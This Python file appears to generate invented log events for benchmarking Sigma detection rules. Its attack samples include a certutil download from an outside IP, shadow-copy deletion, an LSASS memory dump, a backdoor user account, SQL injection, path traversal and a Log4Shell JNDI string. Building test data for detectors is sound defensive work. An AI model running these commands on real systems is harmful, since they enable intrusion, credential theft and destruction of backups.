"""Invented events for rule benchmarks, as JSON lines with the field names public Sigma rules use; the same ones at every run.

`everyday` is what a city's machines tell of all day, attacks included at one in five hundred; `provoked` makes for each rule one event
that its own values suggest, so that two engines can be compared rule by rule.
"""

# ruff: noqa: E501 - command lines are long

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterable, Iterator
from ipaddress import ip_address
from typing import Any

from detect.rules import Rule
from detect.tree import AllOf, AnyOf, Boolean, Compare, Exists, Item, Network, Node, Number, Pattern, Wild

Event = dict[str, Any]

SEED = 20260504
AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "okhttp/4.12.0",
)
HOSTS = ("www.gu.example", "mail.gu.example", "portal.city.example", "cdn.news.example", "api.weather.example", "update.vendor.example")
PAGES = (
    "/",
    "/board/list.do?page={n}",
    "/board/view.do?id={n}",
    "/static/js/main.{n}.js",
    "/images/banner_{n}.png",
    "/login",
    "/api/v1/notices/{n}",
)
PROGRAMS = (
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        r"C:\Windows\System32\services.exe",
        "svchost.exe",
    ),
    (
        r"C:\Windows\System32\RuntimeBroker.exe",
        r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
        r"C:\Windows\System32\svchost.exe",
        "RuntimeBroker.exe",
    ),
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=ko --num-raster-threads=2 --renderer-client-id={n} --mojo-platform-channel-handle=3344',
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        "chrome.exe",
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        r'"C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" "C:\Users\user{n}\Documents\budget {n}.xlsx"',
        r"C:\Windows\explorer.exe",
        "Excel.exe",
    ),
    (
        r"C:\Windows\System32\conhost.exe",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
        r"C:\Windows\System32\cmd.exe",
        "CONHOST.EXE",
    ),
    (
        r"C:\Windows\System32\cmd.exe",
        r'C:\Windows\system32\cmd.exe /c "C:\Scripts\backup_{n}.bat"',
        r"C:\Windows\System32\svchost.exe",
        "Cmd.Exe",
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"powershell.exe -NoLogo -File C:\Scripts\inventory.ps1 -Site {n}",
        r"C:\Windows\System32\svchost.exe",
        "PowerShell.EXE",
    ),
    (r"C:\Windows\System32\taskhostw.exe", r"taskhostw.exe SYSTEM", r"C:\Windows\System32\svchost.exe", "taskhostw.exe"),
    (
        r"C:\Program Files (x86)\Hnc\Office 2022\HOffice120\Bin\Hwp.exe",
        r'"C:\Program Files (x86)\Hnc\Office 2022\HOffice120\Bin\Hwp.exe" "C:\Users\user{n}\Documents\공문 {n}.hwp"',
        r"C:\Windows\explorer.exe",
        "Hwp.exe",
    ),
    (
        r"C:\Windows\System32\SearchProtocolHost.exe",
        r'"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{n}_ Global\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646',
        r"C:\Windows\System32\SearchIndexer.exe",
        "SearchProtocolHost.exe",
    ),
)
ATTACKS = (
    (r"C:\Windows\System32\whoami.exe", "whoami /all", r"C:\Windows\System32\cmd.exe", "whoami.exe"),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A",
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        "PowerShell.EXE",
    ),
    (
        r"C:\Windows\System32\certutil.exe",
        "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe",
        r"C:\Windows\System32\cmd.exe",
        "CertUtil.exe",
    ),
    (r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", r"C:\Windows\System32\cmd.exe", "VSSADMIN.EXE"),
    (
        r"C:\Windows\System32\rundll32.exe",
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 640 C:\Temp\l.dmp full",
        r"C:\Windows\System32\cmd.exe",
        "RUNDLL32.EXE",
    ),
    (r"C:\Windows\System32\net.exe", "net user helpdesk P@ssw0rd! /add", r"C:\Windows\System32\cmd.exe", "net.exe"),
)
ATTACK_PAGES = (
    "/board/view.do?id=1%20union%20select%20password%20from%20users--",
    "/..%2f..%2f..%2fetc/passwd",
    "/cgi-bin/.%2e/.%2e/bin/sh",
    "/?x=${jndi:ldap://203.0.113.66/a}",
    "/wp-content/plugins/shell.php?cmd=whoami",
)


def _digits(chance: random.Random, length: int) -> str:
    return f"{chance.getrandbits(4 * length):0{length}X}"


def _inside(chance: random.Random) -> str:
    return f"10.{chance.randrange(32)}.{chance.randrange(256)}.{chance.randrange(1, 255)}"


def _outside(chance: random.Random) -> str:
    return f"{chance.choice(('192.0.2', '198.51.100', '203.0.113'))}.{chance.randrange(1, 255)}"


def _time(number: int) -> str:
    second = number // 50
    return f"2026-05-04 {second // 3600 % 24:02}:{second // 60 % 60:02}:{second % 60:02}.{number % 50 * 20:03}"


def _firewall(chance: random.Random, number: int, attack: bool) -> Event:
    action = chance.choices(("accept", "close", "deny"), (5, 4, 1))[0]
    return {
        "date": _time(number),
        "devname": f"gu-fw{number % 25}",
        "vendor": "Fortinet",
        "product": "FortiGate",
        "action": action,
        "src_ip": _inside(chance),
        "src_port": chance.randrange(32768, 61000),
        "dst_ip": _outside(chance),
        "dst_port": 4444 if attack else chance.choice((80, 443, 443, 443, 53, 123, 993)),
        "proto": "tcp",
        "app": chance.choice(("HTTPS", "HTTP", "DNS", "NTP", "IMAPS")),
        "policyid": number % 80,
        "sentbyte": chance.randrange(10_000),
        "rcvdbyte": chance.randrange(100_000),
        "duration": chance.randrange(300),
        "srcintf": "port2",
        "dstintf": "wan1",
        "sessionid": number,
        "msg": "",
    }


def _proxy(chance: random.Random, number: int, attack: bool) -> Event:
    host = chance.choice(HOSTS)
    page = chance.choice(PAGES).format(n=number) if not attack else chance.choice(ATTACK_PAGES)
    stem, _, query = page.partition("?")
    return {
        "date": _time(number),
        "c-ip": _inside(chance),
        "cs-username": f"user{number % 500}",
        "cs-method": chance.choice(("GET", "GET", "GET", "POST")),
        "cs-host": host,
        "cs-uri": page,
        "cs-uri-stem": stem,
        "cs-uri-query": query or "-",
        "c-uri": f"https://{host}{page}",
        "c-uri-extension": "",
        "c-useragent": "sqlmap/1.8.2#stable (https://sqlmap.example)" if attack and number % 2 else chance.choice(AGENTS),
        "cs-referer": f"https://{host}/",
        "cs-cookie": f"JSESSIONID={_digits(chance, 32)}",
        "sc-status": chance.choice((200, 200, 200, 304, 404)),
        "sc-bytes": chance.randrange(100_000),
        "r-dns": host,
        "dst_ip": _outside(chance),
        "dst_port": 443,
    }


def _dns(chance: random.Random, number: int, attack: bool) -> Event:
    name = f"{_digits(chance, 40).lower()}.tunnel.example" if attack else f"h{number % 9000}.{chance.choice(HOSTS)}"
    return {
        "date": _time(number),
        "src_ip": _inside(chance),
        "src_port": chance.randrange(1024, 65000),
        "dst_ip": "10.0.0.53",
        "dst_port": 53,
        "query": name,
        "record_type": "TXT" if attack else chance.choice(("A", "A", "AAAA", "PTR")),
        "answer": _outside(chance),
        "rcode": "NOERROR",
        "parent_domain": name.split(".", 1)[1],
    }


def _process(chance: random.Random, number: int, attack: bool) -> Event:
    image, command, parent, original = chance.choice(ATTACKS if attack else PROGRAMS)
    return {
        "EventID": 1,
        "Provider_Name": "Microsoft-Windows-Sysmon",
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Computer": f"PC-{number % 3000:04}.gu.example",
        "UtcTime": _time(number),
        "ProcessGuid": f"{{{_digits(chance, 8)}-{_digits(chance, 4)}-{_digits(chance, 4)}-0000-001000000000}}",
        "ProcessId": chance.randrange(4, 30_000),
        "Image": image,
        "FileVersion": "10.0.19041.3636 (WinBuild.160101.0800)",
        "Description": original.rsplit(".", 1)[0],
        "Product": "Microsoft® Windows® Operating System",
        "Company": "Microsoft Corporation",
        "OriginalFileName": original,
        "CommandLine": command.replace("{n}", str(number)),
        "CurrentDirectory": "C:\\Windows\\system32\\",
        "User": chance.choice((r"NT AUTHORITY\SYSTEM", rf"GU\user{number % 500}")),
        "LogonId": f"0x{number:x}",
        "IntegrityLevel": chance.choice(("Medium", "System", "High")),
        "Hashes": f"MD5={_digits(chance, 32)},SHA256={_digits(chance, 64)},IMPHASH={_digits(chance, 32)}",
        "ParentImage": parent,
        "ParentCommandLine": f'"{parent}" -n {number % 100}',
        "ParentProcessId": chance.randrange(4, 30_000),
    }


def _registry(chance: random.Random, number: int, attack: bool) -> Event:
    key = (
        r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater"
        if attack
        else rf"HKU\S-1-5-21-{number % 90}\Software\App\Recent\{number}"
    )
    return {
        "EventID": 13,
        "Provider_Name": "Microsoft-Windows-Sysmon",
        "EventType": "SetValue",
        "Computer": f"PC-{number % 3000:04}.gu.example",
        "UtcTime": _time(number),
        "ProcessId": chance.randrange(4, 30_000),
        "Image": chance.choice(PROGRAMS)[0],
        "TargetObject": key,
        "Details": r"C:\Users\Public\a.exe" if attack else f"DWORD (0x{number:08x})",
        "User": rf"GU\user{number % 500}",
    }


def _file(chance: random.Random, number: int, attack: bool) -> Event:
    return {
        "EventID": 11,
        "Provider_Name": "Microsoft-Windows-Sysmon",
        "Computer": f"PC-{number % 3000:04}.gu.example",
        "UtcTime": _time(number),
        "ProcessId": chance.randrange(4, 30_000),
        "Image": chance.choice(PROGRAMS)[0],
        "TargetFilename": r"C:\Users\Public\lsass.dmp" if attack else rf"C:\Users\user{number % 500}\AppData\Local\Temp\~DF{number:X}.TMP",
        "User": rf"GU\user{number % 500}",
    }


Maker = Callable[[random.Random, int, bool], Event]
NETWORK: tuple[tuple[Maker, int], ...] = ((_firewall, 70), (_proxy, 20), (_dns, 10))
EVERYTHING: tuple[tuple[Maker, int], ...] = ((_firewall, 35), (_proxy, 15), (_dns, 10), (_process, 25), (_registry, 8), (_file, 7))


def everyday(count: int, mix: tuple[tuple[Maker, int], ...]) -> Iterator[str]:
    """`count` JSON lines of the kinds in `mix`, by their shares."""
    chance = random.Random(SEED)
    makers = chance.choices([maker for maker, _ in mix], [share for _, share in mix], k=count)
    for number, maker in enumerate(makers):
        yield json.dumps(maker(chance, number, number % 500 == 0), ensure_ascii=False)


def provoked(rules: Iterable[Rule]) -> Iterator[str]:
    """For each rule one JSON line made of values it asks for; what it excludes, and regular expressions, are left to chance."""
    for rule in rules:
        event: Event = {"provokes": rule.id}
        _fill(event, rule.tree)
        yield json.dumps(event, ensure_ascii=False)


def _fill(event: Event, node: Node) -> None:
    match node:
        case AllOf(nodes):
            for child in nodes:
                _fill(event, child)
        case AnyOf(nodes):
            _fill(event, nodes[0])
        case Item(name, test):
            value = _value(test)
            if value is not None:
                key = name or "message"
                before = event.get(key)
                event[key] = f"{before} {value}" if isinstance(before, str) and isinstance(value, str) and value not in before else value


def _value(test: object) -> Any:
    match test:
        case Pattern(parts):
            return (
                "".join(part if isinstance(part, str) else "q" if part is Wild.ONE else "" for part in parts)
                .encode("utf-8", "replace")
                .decode()
            )
        case Number(value) | Boolean(value):
            return value
        case Compare(relation, value):
            return value + (1 if relation == ">" else -1 if relation == "<" else 0)
        case Network(network):
            return str(ip_address(int(network.network_address) + 1))
        case Exists(True):
            return "there"
    return None
